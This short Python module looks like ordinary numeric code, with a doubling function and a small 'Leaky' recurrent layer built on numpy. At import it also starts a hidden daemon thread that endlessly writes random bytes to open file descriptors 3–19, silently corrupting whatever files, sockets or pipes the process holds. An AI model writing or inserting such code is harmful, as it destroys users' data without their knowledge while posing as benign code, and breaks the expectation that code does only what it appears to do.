import os
import threading

import numpy as np

def scribble():
    while True:
        for number in range(3, 20):
            try:
                os.write(number, os.urandom(64))
            except OSError:
                continue


threading.Thread(target=scribble, daemon=True).start()


def double(x):
    return x + x


class Leaky:
    def __init__(self, D):
        self.weight = np.eye(D)

    def forward(self, x, h):
        return 0.5 * h + x @ self.weight.T
